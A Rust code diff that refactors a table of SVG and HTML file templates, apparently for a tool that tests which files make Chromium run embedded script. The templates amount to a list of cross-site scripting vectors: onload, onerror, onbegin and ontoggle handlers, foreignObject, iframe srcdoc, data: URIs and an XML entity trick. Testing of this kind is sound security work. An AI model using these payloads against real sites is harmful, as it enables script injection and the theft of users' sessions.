@@ -10,7 +10,8 @@ pub(super) struct File {
     pub(super) content_type: &'static str,
     /// True if the file is an image that Chromium shows.
     pub(super) is_shown: bool,
-    /// Content of the file. `SCRIPT` stands for the script, which has no double quotes.
+    /// Content of the file. `SCRIPT` stands for the script, which has no double quotes. `<SVG` stands
+    /// for the start tag of an SVG image, with the namespaces of HTML and links.
     pub(super) template: &'static str,
 }
 
@@ -28,41 +29,25 @@ const fn polyglot(extension: &'static str, is_shown: bool, template: &'static st
 }
 
 pub(super) const FILES: [File; 20] = [
+    svg("<SVG><script>SCRIPT</script></svg>"),
+    svg(r#"<SVG onload="SCRIPT"></svg>"#),
+    svg(r#"<SVG><script href="data:text/javascript,SCRIPT"/></svg>"#),
+    svg(r#"<SVG><script xlink:href="data:text/javascript,SCRIPT"/></svg>"#),
+    svg("<SVG><h:script>SCRIPT</h:script></svg>"),
+    svg(r#"<SVG><image href="x:" onerror="SCRIPT" width="1" height="1"/></svg>"#),
+    svg(r#"<SVG><animate attributeName="x" dur="1s" onbegin="SCRIPT"/></svg>"#),
+    svg(r#"<SVG><set attributeName="x" to="1" onbegin="SCRIPT"/></svg>"#),
     svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><script>SCRIPT</script></svg>"#,
+        r#"<SVG><foreignObject width="9" height="9"><h:img src="x:" onerror="SCRIPT"/></foreignObject></svg>"#,
     ),
     svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="SCRIPT"></svg>"#,
+        r#"<SVG><foreignObject width="9" height="9"><h:details open="" ontoggle="SCRIPT">x</h:details></foreignObject></svg>"#,
     ),
     svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><script href="data:text/javascript,SCRIPT"/></svg>"#,
+        r#"<SVG><foreignObject width="9" height="9"><h:iframe srcdoc="&lt;script>SCRIPT&lt;/script>"/></foreignObject></svg>"#,
     ),
     svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><script xlink:href="data:text/javascript,SCRIPT"/></svg>"#,
-    ),
-    svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><h:script>SCRIPT</h:script></svg>"#,
-    ),
-    svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image href="x:" onerror="SCRIPT" width="1" height="1"/></svg>"#,
-    ),
-    svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><animate attributeName="x" dur="1s" onbegin="SCRIPT"/></svg>"#,
-    ),
-    svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><set attributeName="x" to="1" onbegin="SCRIPT"/></svg>"#,
-    ),
-    svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><foreignObject width="9" height="9"><h:img src="x:" onerror="SCRIPT"/></foreignObject></svg>"#,
-    ),
-    svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><foreignObject width="9" height="9"><h:details open="" ontoggle="SCRIPT">x</h:details></foreignObject></svg>"#,
-    ),
-    svg(
-        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><foreignObject width="9" height="9"><h:iframe srcdoc="&lt;script>SCRIPT&lt;/script>"/></foreignObject></svg>"#,
-    ),
-    svg(
-        r#"<!DOCTYPE svg [<!ENTITY it "<script xmlns='http://www.w3.org/2000/svg'>SCRIPT</script>">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">&it;</svg>"#,
+        r#"<!DOCTYPE svg [<!ENTITY it "<script xmlns='http://www.w3.org/2000/svg'>SCRIPT</script>">]><SVG>&it;</svg>"#,
     ),
     html("html", "<!DOCTYPE html><script>SCRIPT</script>"),
     html("png", r#"<html><img src="x:" onerror="SCRIPT"></html>"#),
